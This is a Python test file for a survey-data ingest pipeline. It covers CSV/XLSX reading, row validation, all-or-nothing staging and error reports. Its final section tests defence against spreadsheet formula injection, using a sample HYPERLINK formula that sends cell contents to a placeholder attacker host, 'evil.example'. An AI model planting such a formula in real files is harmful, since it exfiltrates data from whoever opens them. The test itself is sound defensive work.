"""Survey ingest: reading CSV/XLSX, row-level validation, all-or-nothing staging, --skip-invalid.

Fixtures are in tests/fixtures/ingest/ (hand-made, real municipality ids and framework
elements, dates in 2025). Every test writes to a DataPaths under tmp_path.
"""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl import Workbook

from pipelines.canonical import COLUMNS, DONT_KNOW
from pipelines.ingest import IngestError, RowError, ingest_files, read_table, validate_canonical
from pipelines.staging import DataPaths, sha256_file, staged_inputs

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "ingest"
NOW = dt.datetime(2025, 6, 30, 12, 0, tzinfo=dt.UTC)
HEADER = ["municipality_id", "wave", "element_id", "level", "respondent_id", "respondent_role",
          "submitted_at", "confidence", "evidence", "publish_consent"]


@pytest.fixture(scope="module")
def element_ids(framework):
    return set(framework.element_ids)


@pytest.fixture()
def paths(tmp_path) -> DataPaths:
    return DataPaths(tmp_path / "data")


@pytest.fixture()
def ingest(paths, framework, index):
    def run(*names_or_paths, **kw):
        files = [p if isinstance(p, Path) else FIXTURES / p for p in names_or_paths]
        kw.setdefault("now", NOW)
        return ingest_files(files, paths, framework=framework, index=index, progress=False, **kw)
    return run


def validate(path: Path, index, element_ids, now=NOW):
    raw = read_table(path)
    return validate_canonical(raw.frame, file=path.name, index=index, element_ids=element_ids,
                              now=now)


def staged_files(paths: DataPaths) -> list[str]:
    return sorted(p.name for p in paths.staging.iterdir()) if paths.staging.exists() else []


def write_csv(path: Path, rows: list[list[str]], header=HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows([header, *rows])
    return path


def row(mid="NL_GM0363", element="STR-01", level="3", respondent="ams-1",
        submitted="2025-03-14", wave="2025", confidence="high", consent="") -> list[str]:
    return [mid, wave, element, level, respondent, "cio", submitted, confidence, "", consent]


# --------------------------------------------------------------------------------------------
# Reading: encodings, delimiters, line endings, XLSX
# --------------------------------------------------------------------------------------------

GOOD_FILES = {
    "good.csv": ("utf-8", ","),
    "good_bom_semicolon.csv": ("utf-8-sig", ";"),
    "good_cp1252_tab.tsv": ("cp1252", "\t"),
}


def test_fixture_bytes_are_what_their_names_say():
    bom = (FIXTURES / "good_bom_semicolon.csv").read_bytes()
    assert bom.startswith(b"\xef\xbb\xbf") and b"\r\n" in bom
    cp = (FIXTURES / "good_cp1252_tab.tsv").read_bytes()
    assert b"caf\xe9" in cp and b"\n" not in cp and b"\r" in cp
    assert b"\r" not in (FIXTURES / "good.csv").read_bytes()


@pytest.mark.parametrize("name", GOOD_FILES)
def test_read_detects_encoding_and_delimiter(name):
    raw = read_table(FIXTURES / name)
    assert (raw.encoding, raw.delimiter, raw.fmt) == (*GOOD_FILES[name], "csv")
    assert list(raw.frame.columns) == HEADER
    assert raw.frame.shape == (8, len(HEADER))
    assert all(raw.frame[c].map(type).eq(str).all() for c in raw.frame.columns)
    assert raw.frame.loc[3, "evidence"] == "Raadsbesluit café"
    assert raw.frame.loc[2, "evidence"] == "Plan; vastgesteld, raad"  # quoted delimiter
    assert raw.frame.loc[7, "evidence"] == 'Zegt "nee"'


@pytest.mark.parametrize("name", ["good_bom_semicolon.csv", "good_cp1252_tab.tsv"])
def test_every_encoding_delimiter_and_line_ending_gives_the_same_rows(name, index, element_ids):
    expected, errors = validate(FIXTURES / "good.csv", index, element_ids)
    assert errors == []
    got, errors = validate(FIXTURES / name, index, element_ids)
    assert errors == []
    pd.testing.assert_frame_equal(got, expected)


def test_good_csv_canonical_rows(index, element_ids):
    df, errors = validate(FIXTURES / "good.csv", index, element_ids)
    assert errors == []
    assert tuple(df.columns) == COLUMNS
    assert df["municipality_id"].tolist() == ["NL_GM0363"] * 3 + ["NL_GM0344"] * 2 + \
        ["BE_11002"] * 3
    assert df["element_id"].tolist() == ["STR-01", "SEC-02", "STR-01", "STR-01", "SEC-02",
                                         "STR-01", "SEC-02", "SEC-01"]
    assert str(df["level"].dtype) == "Int8"
    assert df["level"].tolist() == [3, pd.NA, 2, 4, pd.NA, 1, pd.NA, 0]
    assert str(df["submitted_at"].dtype) == "datetime64[ns, UTC]"
    assert df["submitted_at"].tolist() == [pd.Timestamp(t, tz="UTC") for t in (
        "2025-03-14", "2025-03-14 10:22", "2025-03-15 10:22",  # +01:00 converted to UTC
        "2025-03-14", "2025-03-14", "2025-04-01 09:30", "2025-04-01", "2025-04-01")]
    assert df["confidence"].tolist() == ["high", None, "medium", "low", None, "medium", "high",
                                         "high"]
    assert df["evidence"].tolist() == ["Digitale agenda 2025", None, "Plan; vastgesteld, raad",
                                       "Raadsbesluit café", None, None, None, 'Zegt "nee"']
    assert df["respondent_role"].tolist() == ["cio", "cio", "ciso", None, None,
                                              "informatiemanager", "informatiemanager",
                                              "informatiemanager"]
    assert str(df["publish_consent"].dtype) == "boolean"
    assert df["publish_consent"].tolist() == [True, True, True, False, False, pd.NA, pd.NA, pd.NA]


def _xlsx_from(csv_path: Path, dest: Path) -> Path:
    """The rows of good.csv typed as a spreadsheet would hold them (numbers, datetimes)."""
    raw = read_table(csv_path).frame
    wb = Workbook()
    ws = wb.active
    ws.append(["Municipality ID", "Wave", "Element-ID", "Level", "Respondent ID",
               "Respondent role", "Submitted at", "Confidence", "Evidence", "Publish consent"])
    dates = [dt.datetime(2025, 3, 14), dt.datetime(2025, 3, 14, 10, 22),
             dt.datetime(2025, 3, 15, 10, 22), dt.date(2025, 3, 14), dt.date(2025, 3, 14),
             dt.datetime(2025, 4, 1, 9, 30), dt.date(2025, 4, 1), dt.datetime(2025, 4, 1)]
    for i, rec in enumerate(raw.to_dict("records")):
        level = rec["level"]
        level = float(level) if level.isdigit() and i % 2 else int(level) if level.isdigit() \
            else (level or None)
        ws.append([rec["municipality_id"], 2025, rec["element_id"], level, rec["respondent_id"],
                   rec["respondent_role"] or None, dates[i], rec["confidence"] or None,
                   rec["evidence"] or None, rec["publish_consent"] or None])
    ws.append([None] * 10)  # formatted-but-empty trailing rows are ignored
    wb.save(dest)
    return dest


def test_xlsx_gives_the_same_rows_as_csv(tmp_path, index, element_ids):
    xlsx = _xlsx_from(FIXTURES / "good.csv", tmp_path / "good.xlsx")
    raw = read_table(xlsx)
    assert (raw.fmt, raw.delimiter) == ("xlsx", None)
    assert list(raw.frame.columns) == HEADER  # header names normalised
    assert raw.frame.loc[0, "level"] == "3" and raw.frame.loc[1, "wave"] == "2025"
    assert raw.frame.loc[2, "level"] == "2"  # the float 2.0 reads as "2"
    assert raw.frame.loc[0, "submitted_at"] == "2025-03-14T00:00:00"
    got, errors = validate(xlsx, index, element_ids)
    assert errors == []
    expected, _ = validate(FIXTURES / "good.csv", index, element_ids)
    pd.testing.assert_frame_equal(got, expected)


def test_xlsx_ingest_stages_with_format(tmp_path, ingest, paths):
    xlsx = _xlsx_from(FIXTURES / "good.csv", tmp_path / "good.xlsx")
    report = ingest(xlsx)
    assert report.ok and report.files[0].rows_staged == 8
    meta = next(paths.staging.glob("*.json")).read_text(encoding="utf-8")
    assert '"format": "xlsx"' in meta


def test_header_names_are_normalised(tmp_path, index, element_ids):
    path = tmp_path / "h.csv"
    path.write_bytes("\ufeff Municipality ID ;Wave;ELEMENT-ID;Level;Respondent_ID;respondent role;"
                     "Submitted At;Confidence;Evidence\nNL_GM0363;2025;str-01;3;a;;2025-03-14;;\n"
                     .encode())
    raw = read_table(path)
    assert raw.delimiter == ";"
    assert list(raw.frame.columns) == HEADER[:-1]
    df, errors = validate_canonical(raw.frame, file="h.csv", index=index, element_ids=element_ids,
                                    now=NOW)
    assert errors == [] and df["element_id"].tolist() == ["STR-01"]


@pytest.mark.parametrize(("name", "content", "reason"), [
    ("empty.csv", b"", "the file is empty"),
    ("blank.csv", b"\r\n\n  \n", "the file is empty"),
    ("picture.png", b"\x89PNG\r\n\x1a\n\x00\x00", "unsupported file type '.png'"),
    ("binary.csv", b"municipality_id\x00\x01\x02", "is not a text (CSV) file"),
    ("fake.xlsx", b"municipality_id,wave\n", "is not an Excel workbook"),
    ("broken.xlsx", b"PK\x03\x04 not really a zip", "is not a readable Excel workbook"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16, "old Excel .xls"),
    ("no_header.csv", b"\nNL_GM0363,2025\n", "no header"),
])
def test_unreadable_files_raise_ingest_error(tmp_path, name, content, reason):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(IngestError) as exc:
        read_table(path)
    assert name in str(exc.value)
    assert reason in str(exc.value)


def test_row_with_too_many_cells_is_reported_with_its_row(tmp_path):
    path = write_csv(tmp_path / "ragged.csv", [row(), [*row(respondent="x"), "extra"]])
    with pytest.raises(IngestError) as exc:
        read_table(path)
    assert exc.value.row == 3 and "11 cells but the header has 10" in exc.value.reason


def test_duplicate_column_is_an_error(tmp_path):
    path = write_csv(tmp_path / "dup_col.csv", [[*row(), "3"]], header=[*HEADER, "Level"])
    with pytest.raises(IngestError, match="column 'level' appears more than once"):
        read_table(path)


# --------------------------------------------------------------------------------------------
# Validation rules
# --------------------------------------------------------------------------------------------


def test_national_codes_resolve(index, element_ids):
    df, errors = validate(FIXTURES / "national_codes.csv", index, element_ids)
    assert errors == []
    assert df["municipality_id"].tolist() == ["NL_GM0363", "NL_GM0344", "BE_11002"]


def test_national_code_without_country_is_unknown(tmp_path, index, element_ids):
    path = write_csv(tmp_path / "n.csv", [row(mid="11002"), row(mid="GM0344")])
    df, errors = validate(path, index, element_ids)
    assert [(e.row, e.column, e.reason) for e in errors] == [
        (2, "municipality_id", "unknown municipality (a national code needs a country column)")]
    assert df["municipality_id"].tolist() == ["NL_GM0344"]  # a GM code needs no country


def test_unknown_municipality_names_the_country(tmp_path, index, element_ids):
    path = write_csv(tmp_path / "c.csv", [["99999", "BE", *row()[1:]]],
                     header=["municipality_id", "country", *HEADER[1:]])
    _, errors = validate(path, index, element_ids)
    assert errors == [RowError("c.csv", 2, "municipality_id", "unknown municipality in country BE",
                               "99999")]


def test_dont_know_words_give_na_levels(tmp_path, index, element_ids):
    words = ["", "  ", *DONT_KNOW, "N/A", "Don't Know", "WEET NIET", "don’t know"]
    rows = [row(element=f"STR-0{1 + i % 4}", respondent=f"r{i}", level=w)
            for i, w in enumerate(words)]
    df, errors = validate(write_csv(tmp_path / "dk.csv", rows), index, element_ids)
    assert errors == []
    assert len(df) == len(words) and df["level"].isna().all()


@pytest.mark.parametrize(("value", "expected"), [
    ("0", 0), ("4", 4), (" 3 ", 3), ("3.0", 3), ("2,0", 2),
    ("2.5", "level is not a whole number"), ("abc", "level is not a whole number"),
    ("1_0", "level is not a whole number"), ("nan", "level is not a whole number"),
    ("7", "level out of range 0-4"), ("-1", "level out of range 0-4"),
    ("4.0001", "level is not a whole number"), ("5.0", "level out of range 0-4"),
])
def test_level_values(tmp_path, index, element_ids, value, expected):
    df, errors = validate(write_csv(tmp_path / "l.csv", [row(level=value)]), index, element_ids)
    if isinstance(expected, int):
        assert errors == [] and df["level"].tolist() == [expected]
    else:
        assert errors == [RowError("l.csv", 2, "level", expected, value)]
        assert df.empty


@pytest.mark.parametrize(("value", "expected"), [
    ("2025-03-14", "2025-03-14 00:00"),
    ("2025-03-14T10:22", "2025-03-14 10:22"),
    ("2025-03-14 10:22:05", "2025-03-14 10:22:05"),
    ("2025-03-14T10:22:00Z", "2025-03-14 10:22"),
    ("2025-03-14T10:22:00+02:00", "2025-03-14 08:22"),
    ("2025-03-14 10:22 +02:00", "2025-03-14 08:22"),
    ("14-03-2025", "2025-03-14 00:00"),
    ("14/03/2025", "2025-03-14 00:00"),
    ("4/3/2025", "2025-03-04 00:00"),
    ("14-03-2025 10:22", "2025-03-14 10:22"),
    ("2025-02-30", None), ("03/14/2025", None), ("2025", None), ("gisteren", None),
])
def test_dates(tmp_path, index, element_ids, value, expected):
    df, errors = validate(write_csv(tmp_path / "d.csv", [row(submitted=value)]), index,
                          element_ids)
    if expected is None:
        assert errors == [RowError("d.csv", 2, "submitted_at", "unparseable date", value)]
    else:
        assert errors == []
        assert df["submitted_at"].iloc[0] == pd.Timestamp(expected, tz="UTC")


def test_future_date_uses_injected_now(index, element_ids):
    path = FIXTURES / "bad_future_date.csv"
    _, errors = validate(path, index, element_ids, now=NOW)
    assert errors == [RowError(path.name, 4, "submitted_at", "date in the future", "2025-12-24")]
    # row 5 (2025-07-01) is within the one-day tolerance of 30 June 12:00
    df, errors = validate(path, index, element_ids, now=dt.datetime(2026, 1, 1))  # naive = UTC
    assert errors == [] and len(df) == 4


def test_other_column_rules(tmp_path, index, element_ids):
    rows = [
        row(wave="", respondent=""),
        row(confidence="sure", consent="maybe", respondent="b"),
        row(confidence="LOW", consent="Ja", respondent="c"),
        row(mid="", element="", submitted="", respondent="d"),
    ]
    df, errors = validate(write_csv(tmp_path / "o.csv", rows), index, element_ids)
    assert [(e.row, e.column, e.reason) for e in errors] == [
        (2, "wave", "empty wave"),
        (2, "respondent_id", "empty respondent_id"),
        (3, "confidence", "confidence must be low, medium or high"),
        (3, "publish_consent",
         "publish_consent must be true or false (yes/no, ja/nee, 1/0) or empty"),
        (5, "municipality_id", "empty municipality_id"),
        (5, "element_id", "empty element_id"),
        (5, "submitted_at", "empty submitted_at"),
    ]
    assert df["confidence"].tolist() == ["low"] and df["publish_consent"].tolist() == [True]


def test_duplicates_are_found_after_resolution(tmp_path, index, element_ids):
    header = ["municipality_id", "country", *HEADER[1:]]
    rows = [["NL_GM0363", "", *row()[1:]], ["GM0363", "NL", *row(level="2")[1:]],
            ["363", "nl", *row(element="str-01 ")[1:]], ["NL_GM0363", "", *row(respondent="b")[1:]]]
    _, errors = validate(write_csv(tmp_path / "dups.csv", rows, header=header), index, element_ids)
    assert [(e.row, e.column, e.reason) for e in errors] == [
        (3, "element_id", "duplicate answer (first at row 2)"),
        (4, "element_id", "duplicate answer (first at row 2)"),
    ]
    assert errors[0].value == "NL_GM0363, wave 2025, STR-01, respondent ams-1"


def test_blank_rows_are_skipped_but_keep_the_numbering(tmp_path, index, element_ids):
    path = tmp_path / "blank.csv"
    path.write_text(",".join(HEADER) + "\n" + ",".join(row()) + "\n\n,,,,,,,,,\n"
                    + ",".join(row(level="9", respondent="b")) + "\n\n\n", encoding="utf-8")
    df, errors = validate(path, index, element_ids)
    assert len(df) == 1
    assert [(e.row, e.column) for e in errors] == [(5, "level")]


def test_several_errors_in_one_row_are_sorted_by_column_order(index, element_ids):
    _, errors = validate(FIXTURES / "mixed.csv", index, element_ids)
    assert [(e.row, e.column, e.reason, e.value) for e in errors] == [
        (3, "level", "level out of range 0-4", "7"),
        (5, "element_id", "unknown element", "XYZ-01"),
        (5, "submitted_at", "unparseable date", "gisteren"),
    ]


def test_missing_column_gives_no_rows(index, element_ids):
    df, errors = validate(FIXTURES / "bad_missing_column.csv", index, element_ids)
    assert df.empty and tuple(df.columns) == COLUMNS
    assert errors == [RowError("bad_missing_column.csv", 1, "level", "missing column", "")]


def test_validation_is_vectorised(index, element_ids):
    """100,000 rows in well under the time a per-row Python loop would need."""
    n = 100_000
    rng = np.random.default_rng(0)
    ids = np.array(sorted(index.ids))[rng.integers(0, len(index.ids), n)]
    elements = np.array(sorted(element_ids))[rng.integers(0, len(element_ids), n)]
    raw = pd.DataFrame({
        "municipality_id": ids, "wave": "2025", "element_id": elements,
        "level": rng.choice(["0", "1", "2", "3", "4", "", "n/a"], n),
        "respondent_id": [f"r{i}" for i in range(n)], "respondent_role": "cio",
        "submitted_at": rng.choice(["2025-03-14", "2025-03-15T10:00:00Z", "14-03-2025"], n),
        "confidence": rng.choice(["low", "high", ""], n), "evidence": "",
    }).astype(str)
    start = time.perf_counter()
    df, errors = validate_canonical(raw, file="big.csv", index=index, element_ids=element_ids,
                                    now=NOW)
    elapsed = time.perf_counter() - start
    assert errors == [] and len(df) == n
    assert elapsed < 5, f"validating {n} rows took {elapsed:.1f} s"


# --------------------------------------------------------------------------------------------
# ingest_files: all-or-nothing, rejected files, skip-invalid, idempotence
# --------------------------------------------------------------------------------------------

BROKEN = [
    ("bad_unknown_municipality.csv", 3, "municipality_id", "unknown municipality", "NL_GM9999"),
    ("bad_unknown_element.csv", 4, "element_id", "unknown element", "STR-99"),
    ("bad_level_out_of_range.csv", 2, "level", "level out of range 0-4", "7"),
    ("bad_level_not_whole.csv", 3, "level", "level is not a whole number", "2.5"),
    ("bad_unparseable_date.csv", 3, "submitted_at", "unparseable date", "14 maart 2025"),
    ("bad_future_date.csv", 4, "submitted_at", "date in the future", "2025-12-24"),
    ("bad_duplicate.csv", 6, "element_id", "duplicate answer (first at row 2)",
     "NL_GM0363, wave 2025, STR-01, respondent ams-1"),
    ("bad_missing_column.csv", 1, "level", "missing column", ""),
]


@pytest.mark.parametrize(("name", "row_no", "column", "reason", "value"), BROKEN,
                         ids=[b[0] for b in BROKEN])
def test_broken_file_is_rejected_whole(tmp_path, ingest, paths, name, row_no, column, reason,
                                       value):
    src = tmp_path / name
    shutil.copyfile(FIXTURES / name, src)
    before = src.read_bytes()
    report = ingest(src)

    assert not report.ok
    (f,) = report.files
    assert f.status == "rejected" and f.rows_staged == 0
    assert f.errors == [RowError(name, row_no, column, reason, value)]
    assert staged_files(paths) == []  # nothing staged
    assert src.read_bytes() == before  # the original is untouched
    sha = sha256_file(src)
    assert f.sha256 == sha
    assert f.kept_path == paths.rejected / f"{sha[:12]}-{name}"
    assert f.kept_path.read_bytes() == before
    assert f.rejects_path == paths.rejected / f"{sha[:12]}-{name}.errors.csv"
    errs = pd.read_csv(f.rejects_path, dtype=str, keep_default_na=False)
    assert list(errs.columns) == ["file", "row", "column", "reason", "value"]
    assert errs.to_dict("records") == [{"file": name, "row": str(row_no), "column": column,
                                        "reason": reason, "value": value}]
    assert sorted(p.name for p in paths.inbox.iterdir()) == ["rejected"]
    line = f"{name} row {row_no}, column {column}: {reason}"
    assert line in report.summary()


def test_all_or_nothing_across_files(ingest, paths):
    report = ingest("good.csv", "bad_level_out_of_range.csv")
    assert not report.ok
    good, bad = report.files
    assert (good.status, good.rows_read, good.rows_staged, good.errors) == ("not staged", 8, 0, [])
    assert good.kept_path is None
    assert bad.status == "rejected"
    assert staged_files(paths) == []
    kept = sorted(p.name for p in paths.rejected.iterdir())
    assert len(kept) == 2 and all("bad_level_out_of_range.csv" in k for k in kept)
    assert [p.name for p in paths.inbox.iterdir()] == ["rejected"]
    assert "Nothing was staged" in report.summary()


def test_good_files_are_kept_and_staged(ingest, paths):
    report = ingest("good.csv", "national_codes.csv")
    assert report.ok
    assert [(f.status, f.rows_read, f.rows_staged) for f in report.files] == [
        ("staged", 8, 8), ("staged", 3, 3)]
    for f in report.files:
        assert f.kept_path.parent == paths.inbox
        assert f.kept_path.read_bytes() == (FIXTURES / f.name).read_bytes()
    assert len(list(paths.staging.glob("*.parquet"))) == 2
    table = pq.read_table(next(s.parquet for s in staged_inputs(paths)
                               if s.sha256 == report.files[0].sha256)).to_pandas()
    assert table["municipality_id"].astype(str).tolist()[:3] == ["NL_GM0363"] * 3
    assert table["level"].isna().sum() == 3
    assert table["evidence"].tolist()[3] == "Raadsbesluit café"


def test_ingesting_twice_stages_once(ingest, paths):
    first = ingest("good.csv")
    second = ingest("good.csv")
    assert first.files[0].status == "staged"
    assert second.ok and second.files[0].status == "already staged"
    assert second.files[0].rows_staged == 8
    assert len(list(paths.staging.glob("*.parquet"))) == 1
    assert len(list(paths.staging.glob("*.json"))) == 1
    assert len([p for p in paths.inbox.iterdir() if p.is_file()]) == 1


def test_same_bytes_under_another_name_are_already_staged(tmp_path, ingest, paths):
    copy = tmp_path / "renamed.csv"
    shutil.copyfile(FIXTURES / "good.csv", copy)
    report = ingest("good.csv", copy)
    assert [f.status for f in report.files] == ["staged", "already staged"]
    assert len(list(paths.staging.glob("*.parquet"))) == 1


def test_skip_invalid_stages_good_rows_and_writes_rejects(ingest, paths):
    report = ingest("mixed.csv", skip_invalid=True)
    assert report.ok
    (f,) = report.files
    assert (f.status, f.rows_read, f.rows_staged) == ("staged with rejects", 6, 4)
    assert f.kept_path.parent == paths.inbox
    assert f.rejects_path == paths.rejected / f"{f.sha256[:12]}-mixed.csv.rejected.csv"
    rejects = pd.read_csv(f.rejects_path, dtype=str, keep_default_na=False)
    assert list(rejects.columns) == ["file", "row", "reason", *HEADER]
    assert rejects["row"].tolist() == ["3", "5"]
    assert rejects["reason"].tolist() == [
        "level: level out of range 0-4",
        "element_id: unknown element; submitted_at: unparseable date"]
    assert rejects["element_id"].tolist() == ["SEC-02", "XYZ-01"]  # the original cells
    staged = pq.read_table(next(paths.staging.glob("*.parquet"))).to_pandas()
    assert len(staged) == 4
    assert staged["element_id"].astype(str).tolist() == ["STR-01", "STR-01", "STR-01", "SEC-02"]


def test_skip_invalid_with_explicit_rejects_path_and_several_files(tmp_path, ingest, paths):
    out = tmp_path / "rejects.csv"
    report = ingest("mixed.csv", "bad_level_not_whole.csv", "good.csv", skip_invalid=True,
                    rejected_out=out)
    assert [f.status for f in report.files] == ["staged with rejects", "staged with rejects",
                                                "staged"]
    rejects = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert list(zip(rejects["file"], rejects["row"], strict=True)) == [
        ("mixed.csv", "3"), ("mixed.csv", "5"), ("bad_level_not_whole.csv", "3")]
    assert len(list(paths.staging.glob("*.parquet"))) == 3


def test_skip_invalid_still_rejects_a_file_without_usable_rows(ingest, paths):
    report = ingest("bad_missing_column.csv", "good.csv", skip_invalid=True)
    assert not report.ok
    missing, good = report.files
    assert missing.status == "rejected" and missing.kept_path.parent == paths.rejected
    assert missing.rejects_path.name.endswith(".errors.csv")
    assert good.status == "staged"
    assert len(list(paths.staging.glob("*.parquet"))) == 1


def test_unreadable_file_is_rejected_with_a_reason(tmp_path, ingest, paths):
    bad = tmp_path / "notes.csv"
    bad.write_bytes(b"")
    report = ingest(bad, "good.csv")
    assert not report.ok
    assert report.files[0].status == "rejected"
    assert report.files[0].errors == [RowError("notes.csv", 0, "", "the file is empty", "")]
    assert "notes.csv: the file is empty" in report.summary()
    assert staged_files(paths) == []


def test_header_only_file_is_rejected(tmp_path, ingest):
    path = write_csv(tmp_path / "header_only.csv", [])
    report = ingest(path)
    assert report.files[0].status == "rejected"
    assert report.files[0].errors[0].reason == "the file has a header but no data rows"


def test_missing_file_raises_before_anything_happens(tmp_path, ingest, paths):
    with pytest.raises(FileNotFoundError):
        ingest("good.csv", tmp_path / "nope.csv")
    assert not paths.root.exists()


def test_summary_truncates_and_points_to_the_full_list(tmp_path, ingest):
    path = write_csv(tmp_path / "many.csv",
                     [row(level=str(5 + i), respondent=f"r{i}") for i in range(5)])
    report = ingest(path)
    text = report.summary(max_errors=2)  # max_errors counts lines, one per distinct problem
    f = report.files[0]
    assert "many.csv row 2, column level: level out of range 0-4 (value '5')" in text
    assert "many.csv row 3, column level" in text and "many.csv row 4" not in text
    assert f"... and 3 more problems (5 errors in all, all in {f.rejects_path})" in text


def test_summary_groups_one_problem_into_one_line(tmp_path, ingest):
    path = write_csv(tmp_path / "many.csv", [row(level="7", respondent=f"r{i}") for i in range(5)])
    report = ingest(path)
    lines = report.summary().splitlines()
    assert lines[1:] == [
        "many.csv: level out of range 0-4 (value '7'): 5 cells in column level, rows 2–6",
        "Nothing was staged: fix the errors and ingest again, or use --skip-invalid to stage "
        "the good rows."]
    assert len(report.files[0].errors) == 5  # the errors CSV keeps one line per cell


def test_summary_does_not_suggest_skip_invalid_for_a_file_unusable_as_a_whole(tmp_path, ingest):
    path = tmp_path / "cols.csv"
    path.write_text("municipality_id,wave\nNL_GM0363,2025\n", encoding="utf-8")
    text = ingest(path).summary()
    assert "--skip-invalid to stage" not in text
    assert text.splitlines()[-1] == (
        "Nothing was staged: cols.csv cannot be used as a whole: fix what is named above (the "
        "file, a missing column, the mapping) and ingest again (--skip-invalid would not help).")


def test_wave_that_does_not_fit_the_submissions_is_a_warning(tmp_path, ingest):
    path = write_csv(tmp_path / "late.csv", [row(respondent="r1", wave="2023"),
                                             row(respondent="r2", wave="2023")])
    report = ingest(path)
    (f,) = report.files
    assert report.ok and f.status == "staged" and len(f.warnings) == 1
    assert f.warnings[0].startswith("wave '2023' does not fit the submission dates: every "
                                    "respondent submitted in 2025, not in 2022 or 2023")
    assert report.summary().splitlines()[1] == f"  warning: {f.warnings[0]}"


def test_progress_bar_goes_to_stderr(capsys, paths, framework, index):
    ingest_files([FIXTURES / "good.csv"], paths, framework=framework, index=index, now=NOW,
                 progress=True)
    assert "ingest" in capsys.readouterr().err
    ingest_files([FIXTURES / "good.csv"], paths, framework=framework, index=index, now=NOW,
                 progress=False)
    captured = capsys.readouterr()
    assert captured.err == "" and captured.out == ""


def test_excel_sep_hint_line(tmp_path, index, element_ids):
    path = tmp_path / "excel.csv"
    path.write_bytes(("sep=;\r\n" + ";".join(HEADER) + "\r\n" + ";".join(row(level="9"))
                      + "\r\n").encode("cp1252"))
    raw = read_table(path)
    assert raw.delimiter == ";" and list(raw.frame.columns) == HEADER
    _, errors = validate(path, index, element_ids)
    assert [(e.row, e.column) for e in errors] == [(2, "level")]  # as Excel numbers it


# --------------------------------------------------------------------------------------------
# Files for people: no cell of an upload runs as a formula in the rejects and errors files
# --------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"click")'


def evil_rows() -> list[list[str]]:
    good = row(respondent="ams-1")
    good[8] = "@SUM(A1:A9)"  # a good row's evidence: staged as typed, never a rejects cell
    bad_level = row(element="SEC-01", level="=1+1", respondent="ams-2")
    bad_negative = row(element="SEC-02", level="-1", respondent="ams-3")
    bad_negative[8] = FORMULA
    return [good, bad_level, bad_negative]


def read_cells(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_errors_csv_of_a_rejected_file_neutralises_the_cells(tmp_path, ingest):
    path = write_csv(tmp_path / "+evil.csv", evil_rows())
    (f,) = ingest(path).files
    assert f.status == "rejected"
    cells = read_cells(f.rejects_path)
    assert [(c["file"], c["row"], c["column"], c["value"]) for c in cells] == [
        ("'+evil.csv", "3", "level", "'=1+1"), ("'+evil.csv", "4", "level", "'-1")]
    assert f.errors[0].value == "=1+1"  # the report itself quotes the cell as typed


@pytest.mark.parametrize("explicit", [False, True])
def test_rejected_rows_neutralise_the_original_cells(tmp_path, ingest, paths, explicit):
    out = tmp_path / "rejects.csv" if explicit else None
    (f,) = ingest(write_csv(tmp_path / "evil.csv", evil_rows()), skip_invalid=True,
                  rejected_out=out).files
    assert f.status == "staged with rejects" and f.rows_staged == 1
    cells = read_cells(out or f.rejects_path)
    assert [(c["row"], c["level"], c["evidence"]) for c in cells] == [
        ("3", "'=1+1", ""), ("4", "'-1", "'" + FORMULA)]
    staged = pq.read_table(next(paths.staging.glob("*.parquet"))).to_pandas()
    assert staged["evidence"].tolist() == ["@SUM(A1:A9)"]  # staged data keep what was typed
